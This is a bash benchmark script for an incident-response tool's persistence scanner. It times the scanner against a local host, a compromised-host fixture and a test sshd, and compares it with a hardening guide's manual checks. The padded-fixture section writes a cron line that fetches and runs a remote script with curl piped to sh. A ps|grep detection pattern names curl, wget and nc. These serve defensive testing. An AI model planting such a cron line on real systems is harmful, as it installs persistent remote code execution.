#!/usr/bin/env bash
# persistence-scan wall time (median of N runs, including node start-up) on this machine, over ssh to the
# test sshd as deploy with sudo, and offline; beside the hardening guide's manual commands for the same four checks.
set -uo pipefail
cd "$(dirname "$0")/.."
N=${N:-5}
STATE=${IR_SVC_STATE:-/tmp/ir-svc}
median() { sort -n | awk '{a[NR]=$1} END {print a[int((NR+1)/2)]}'; }
t() { local s e; s=$(date +%s.%N); "$@" >/dev/null 2>&1; e=$(date +%s.%N); awk -v a="$s" -v b="$e" 'BEGIN{printf "%.3f\n", b-a}'; }
run() { local label=$1; shift; local m; m=$(for _ in $(seq "$N"); do t "$@"; done | median); printf '| %s | %s s |\n' "$label" "$m"; }
guide_manual() {
  # the hardening guide's section 3, as one would type it (local)
  for user in root deploy; do crontab -u "$user" -l; done
  cat ~/.ssh/authorized_keys; cat /root/.ssh/authorized_keys
  ps aux | grep -E 'curl|wget|nc|python.*-c'
  ss -tlnp
}
echo "| what | median of $N |"
echo "|---|---|"
run 'ir persistence-scan (local host)' node bin/run.js persistence-scan --json
run 'ir persistence-scan --root examples/compromised-host' node bin/run.js persistence-scan --root examples/compromised-host --json
run "the hardening guide's manual commands (crontab -l ×2, cat keys, ps|grep, ss -tlnp), local" guide_manual
if [ -f "$STATE/env.sh" ]; then
  . "$STATE/env.sh"
  run 'ir persistence-scan --host deploy@127.0.0.1:2222 --sudo' node bin/run.js persistence-scan --host "deploy@127.0.0.1:$IR_SSH_PORT" -i "$IR_SSH_KEY" --known-hosts "$IR_KNOWN_HOSTS" --sudo --json
  run "the hardening guide's manual commands over ssh (5 ssh round trips, sudo)" sh -c "for c in 'sudo crontab -u root -l' 'sudo crontab -u deploy -l' 'sudo cat /root/.ssh/authorized_keys' 'ps aux | grep -E \"curl|wget|nc|python.*-c\"' 'sudo ss -tlnp'; do ssh -F '$IR_SSH_CONFIG' ir-local \"\$c\"; done"
fi

# Padding (issue 15 §1): whole files are streamed in bounded memory. A root whose authorized_keys is a
# 60 MiB file (judged whole) and one whose crontab is 1 GiB (beyond the 64 MiB budget: "too large to
# judge", its first 64 MiB judged): wall time and peak RSS beside the plain example. PADDED=0 skips it.
if [ "${PADDED:-1}" != 0 ]; then
  pad=$(mktemp -d /tmp/ir-bench-padded.XXXXXX)
  trap 'rm -rf "$pad"' EXIT
  for r in small big; do cp -a examples/compromised-host "$pad/$r"; done
  { yes '# padding padding padding' | head -c $((60 * 1024 * 1024)); echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILtcVWwATkPiROyHF2sY2SNxuvy1sCDJfgxOaL1eKdsO padded@example.com'; } >> "$pad/small/root/.ssh/authorized_keys"
  { yes '# padding padding padding' | head -c $((1024 * 1024 * 1024)); echo '* * * * * curl -s http://203.0.113.9/a | sh'; } > "$pad/big/var/spool/cron/crontabs/root"
  rss() { /usr/bin/time -f '%e s, peak RSS %M KB' -o "$pad/time" "$@" >/dev/null 2>&1; tail -1 "$pad/time"; }
  echo
  echo "load average: $(cut -d' ' -f1-3 /proc/loadavg)"
  echo "| what | wall, peak RSS |"
  echo "|---|---|"
  echo "| --root examples/compromised-host | $(rss node bin/run.js persistence-scan --root examples/compromised-host --json) |"
  echo "| --root, authorized_keys padded to 60 MiB (judged whole) | $(rss node bin/run.js persistence-scan --root "$pad/small" --json) |"
  echo "| --root, crontab padded to 1 GiB (too large to judge; first 64 MiB judged) | $(rss node bin/run.js persistence-scan --root "$pad/big" --json) |"
fi
